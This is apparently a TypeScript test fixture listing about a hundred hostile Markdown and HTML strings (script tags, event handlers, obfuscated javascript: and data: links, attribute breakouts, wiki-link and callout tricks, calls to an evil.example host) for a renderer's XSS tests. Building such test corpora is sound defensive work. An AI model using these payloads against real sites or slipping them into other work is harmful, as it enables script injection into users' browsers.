/**
 * Hostile Markdown for the renderer's XSS tests (`markdown.test.ts`). Each entry is one document.
 * Sources: OWASP XSS Filter Evasion Cheat Sheet, PortSwigger XSS cheat sheet, and Markdown-specific
 * vectors (link destinations, reference definitions, autolinks, wiki links, fences, callouts).
 * Add a payload here whenever a new vector is found; every test below runs against all of them.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Raw HTML (must stay text: the renderer runs with `html: false`)
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<script>script>alert(1)<</script>/script>`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<img src="x" onerror="alert(1)"//`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  `<style>@import 'https://evil.example/x.css'; body { background: url(javascript:alert(1)) }</style>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="&#x6A;avascript:alert(1)">click</a>`,
  `<a href="jav&#x09;ascript:alert(1)">click</a>`,
  `<details open ontoggle=alert(1)>`,
  `<input onfocus=alert(1) autofocus>`,
  `<body onload=alert(1)>`,
  `<base href="javascript:/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<!-- <img src=x onerror=alert(1)> -->`,
  `text <b onmouseover=alert(1)>bold</b> text`,

  // Inline links with dangerous schemes, many obfuscations
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert(1))`,
  `[click](  javascript:alert(1)  )`,
  `[click](<javascript:alert(1)>)`,
  `[click](<java\tscript:alert(1)>)`,
  `[click](java%09script:alert(1))`,
  `[click](%6A%61vascript:alert(1))`,
  `[click](&#106;avascript:alert(1))`,
  `[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))`,
  `[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))`,
  `[click](javascript&colon;alert(1))`,
  `[click](javas&#x09;cript:alert(1))`,
  `[click](javascript&#58;alert(1))`,
  `[click](javascript://%0aalert(1))`,
  `[click](ｊａｖａｓｃｒｉｐｔ:alert(1))`,
  `[click](vbscript:msgbox(1))`,
  `[click](VBScript:msgbox(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](data:text/html,<script>alert(1)</script>)`,
  `[click](DATA:text/html,alert)`,
  `[click](file:///etc/passwd)`,
  `[click](javascript:alert(1) "title")`,
  `[![img](javascript:alert(1))](javascript:alert(2))`,
  `[<img src=x onerror=alert(1)>](https://example.com)`,

  // Link titles and URLs that try to break out of the attribute
  `[click](https://example.com "a\\" onmouseover=\\"alert(1)")`,
  `[click](https://example.com 'x" onmouseover="alert(1)')`,
  `[click](<https://example.com/" onclick="alert(1)>)`,
  `https://example.com/"onmouseover="alert(1)`,
  `<https://example.com/"onmouseover="alert(1)>`,
  `<mailto:a@example.com?subject="><script>alert(1)</script>>`,

  // Reference-style definitions
  `[click]\n\n[click]: javascript:alert(1)`,
  `[click][ref]\n\n[ref]: <javascript:alert(1)> "title"`,
  `[click][ref]\n\n[ref]: &#106;avascript:alert(1)`,
  `![img][ref]\n\n[ref]: javascript:alert(1)`,
  `[click]\n\n[click]: https://example.com 'a" onmouseover="alert(1)'`,

  // Images
  `![x](javascript:alert(1))`,
  `![x](JAVASCRIPT:alert(1))`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![x](vbscript:msgbox(1))`,
  `![" onerror="alert(1)](https://example.com/x.png)`,
  `![x](https://example.com/x.png "t\\" onerror=\\"alert(1)")`,

  // Autolinks
  `<javascript:alert(1)>`,
  `<JAVASCRIPT:alert(1)>`,
  `<vbscript:msgbox(1)>`,
  `<data:text/html,alert(1)>`,

  // Wiki links
  `[["><script>alert(1)</script>]]`,
  `[[javascript:alert(1)]]`,
  `[[JavaScript:alert(1)|click me]]`,
  `[[x|<img src=x onerror=alert(1)>]]`,
  `[[" onmouseover="alert(1)]]`,
  `[[../../../javascript:alert(1)]]`,
  `[[x|" onclick="alert(1)]]`,

  // Markdown constructs around hostile text
  "```\"><script>alert(1)</script>\nx\n```",
  "```bash\" onload=\"alert(1)\nx\n```",
  "`<script>alert(1)</script>`",
  `# <img src=x onerror=alert(1)>`,
  `## Heading [[x|<svg onload=alert(1)>]]`,
  `- [ ] <script>alert(1)</script>\n- [x] [click](javascript:alert(1))`,
  `| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |`,
  `> [!WARNING]\n> <script>alert(1)</script> [x](javascript:alert(1))`,
  `> [!NOTE"><script>alert(1)</script>]\n> body`,
  `{{< rawhtml >}}<script>alert(1)</script>{{< /rawhtml >}}`,
  `{{< ref "javascript:alert(1)" >}} {{% notice warning %}}<img src=x onerror=alert(1)>{{% /notice %}}`,
  `{{.Name}}<script>alert(1)</script>{{ template "x" . }}`,
  `---\ntitle: "<script>alert(1)</script>"\n---\n\n# ok`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `<scr\u0000ipt>alert(1)</scr\u0000ipt> [x](java\u0000script:alert(1))`,
];
